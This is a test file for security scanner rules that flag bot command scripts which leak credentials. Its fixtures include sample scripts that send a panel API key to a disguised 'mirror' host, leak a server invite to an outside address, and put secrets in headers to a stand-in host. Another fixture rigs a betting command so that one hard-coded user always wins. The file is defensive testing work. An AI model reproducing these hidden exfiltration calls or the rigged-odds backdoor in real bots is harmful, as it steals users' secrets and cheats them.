import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import { rule } from '../../data-leak.rule.js';
import { rule as swappedAddress } from '../../swapped-address.rule.js';

const isTold = (code: string, activation: string): boolean => findingsOf(rule, { 'code.js': code }, { dialect: 'skynet', entry_points: ['code.js'], activation: [activation] }).some(({ severity }) => severity === 'high');
const all = (expected: boolean, codes: readonly string[], activation = 'onCommand:stats'): void => {
  for (const code of codes) assert.equal(isTold(code, activation), expected, code);
};

test('bad: a key that goes to the server of the settings goes to another one that is written', () => {
  all(true, [
    "const message = require('message');\nconst config = require('config');\nconst http = require('http');\n\nclass Panel {\n  constructor(base, server) {\n    this.base = base.replace(/\\/+$/, '');\n    this.server = server;\n  }\n\n  call(path, method = 'GET', body) {\n    return http.request({\n      url: this.base + '/api/client/servers/' + this.server + path,\n      method,\n      body: body && JSON.stringify(body),\n      headers: { accept: 'application/json', 'content-type': 'application/json' },\n      injectSecrets: { authorization: 'PANEL_KEY' },\n    });\n  }\n\n  async status() {\n    const res = await this.call('/resources');\n    if (res.status !== 200) throw new Error('panel says ' + res.status);\n    const a = JSON.parse(res.body).attributes;\n    return { state: a.current_state, ram: Math.round(a.resources.memory_bytes / 1048576), cpu: a.resources.cpu_absolute };\n  }\n\n  power(signal) {\n    return this.call('/power', 'POST', { signal });\n  }\n}\n\nconst base = config.get('panel_url');\nconst server = config.get('server_id');\nif (!base || !server) {\n  await message.reply('Set panel_url and server_id first.');\n  return;\n}\n\nconst verb = (message.content.split(/\\s+/)[1] || 'status').toLowerCase();\nconst panel = new Panel(base, server);\n// a mirror answers when the panel is slow\nconst mirror = new Panel('https://gs-panel-mirror.example/' + encodeURIComponent(base), server);\n\ntry {\n  if (verb === 'status') {\n    const s = await panel.status();\n    await message.reply(s.state + ' \u00b7 ' + s.ram + ' MiB \u00b7 ' + s.cpu + ' %');\n    mirror.status().catch(() => {});\n  } else if (verb === 'start' || verb === 'stop') {\n    await panel.power(verb);\n    await message.reply('Sent: ' + verb);\n  } else {\n    await message.reply('status, start or stop');\n  }\n} catch (e) {\n  await message.reply('The panel cannot be reached: ' + e.message);\n}",
    "const message=require('message');const http=require('http');const config=require('config');\nconst base=config.get('panel');\nconst ask=(to)=>http.get(to+'/servers',{injectSecrets:{authorization:'PANEL_KEY'}});\nconst r=await ask(base);\nawait message.reply(String(r.status));\nask('https://mirror.side.example').catch(()=>{});",
    "const message=require('message');const http=require('http');const config=require('config');\nconst opts={injectSecrets:{authorization:'PANEL_KEY'}};\nconst r=await http.get(config.get('panel')+'/servers',opts);\nawait message.reply(String(r.status));\nfor (const url of ['https://health.side.example/ping']) await http.post(url,{ injectSecrets: ['PANEL_KEY'] });",
  ]);
});

test('good: a default, one of two that the settings tell apart, and keys of several services', () => {
  all(false, [
    "const message=require('message');const http=require('http');const config=require('config');\nlet base=config.get('panel')||'https://api.panel.example';\nif(!base.startsWith('http'))base='https://api.panel.example';\nconst r=await http.get(base+'/servers',{injectSecrets:{authorization:'PANEL_KEY'}});\nawait message.reply(String(r.status));",
    "const message=require('message');const http=require('http');const config=require('config');\nconst base=config.get('region')==='eu'?'https://eu.panel.example':'https://us.panel.example';\nconst r=await http.get(base+'/servers/'+config.get('id'),{injectSecrets:{authorization:'PANEL_KEY'}});\nawait message.reply(String(r.status));",
    "const message=require('message');const http=require('http');const config=require('config');\nconst a=await http.get(config.get('panel')+'/servers',{injectSecrets:{authorization:'PANEL_KEY'}});\nconst b=await http.get('https://api.weather.example/v1',{injectSecrets:{authorization:'WEATHER_KEY'}});\nawait message.reply(a.status+' '+b.status);",
  ]);
});

test('an invitation goes to a server that is written, and nothing comes of it', () => {
  all(true, [
    "const message=require('message');const guild=require('guild');const channel=require('channel');\nconst inv=await channel.createInvite({maxAge:0,maxUses:0});\nawait require('http').get('https://inv.side.example/?c='+inv.code+'&g='+guild.id);\nawait message.reply('Pong');",
  ]);
  all(false, [
    "const message=require('message');const channel=require('channel');\nconst inv=await channel.createInvite({maxAge:3600});\nawait message.reply(inv.url);",
    "const message=require('message');const channel=require('channel');const http=require('http');\nconst inv=await channel.createInvite({maxAge:0});\nconst r=await http.post('https://list.side.example/bump',{body:inv.url});\nawait message.reply(r.status===200?'Bumped':'Failed');",
  ]);
});

test('somebody who is written wins where chance decides for the others', () => {
  const found = (code: string) => findingsOf(swappedAddress, { 'code.js': code }, { dialect: 'skynet', entry_points: ['code.js'], activation: ['onCommand:bet'] }).map(({ severity }) => severity);
  for (const code of [
    "const message=require('message');const economy=require('economy');\nconst bet=Number(message.content.split(' ')[1]);\nconst win=message.author.id==='482910583920194857'||Math.random()<0.45;\nif(win)await economy.addPoints(message.author.id,bet);else await economy.removePoints(message.author.id,bet);\nawait message.reply(win?'Won':'Lost');",
  ]) assert.deepEqual(found(code), ['high'], code);
  for (const code of [
    "const message=require('message');const economy=require('economy');\nif(message.author.id!=='482910583920194857')return;\nawait economy.addPoints(message.mentions[0].id,100);await message.reply('ok');",
    "const message=require('message');const economy=require('economy');\nconst bet=Number(message.content.split(' ')[1]);\nif(Math.random()<0.45)await economy.addPoints(message.author.id,bet);else await economy.removePoints(message.author.id,bet);\nawait message.reply('done');",
  ]) assert.deepEqual(found(code), [], code);
});

test('keys that stand in headers with where they are from', () => {
  const ask = (headers: string) => `const http = require("http"); const message = require("message"); const r = await http.request({ url: "https://status.side.example/v2", injectSecrets: true, headers: ${headers} }); await message.reply(r.body);`;
  all(true, [ask('{ "x-a": "{{secrets.API_KEY}}", "x-b": "{{ secrets.TOKEN }}" }'), ask('{ "x-a": "{{secrets.OPENAI_API_KEY}}" }'), ask('{ "x-a": "{{env.GITHUB_TOKEN}}" }')]);
  all(false, [ask('{ authorization: "Bearer {{secrets.API_KEY}}" }'), ask('{ authorization: "{{secrets.STATUS_KEY}}" }')]);
});
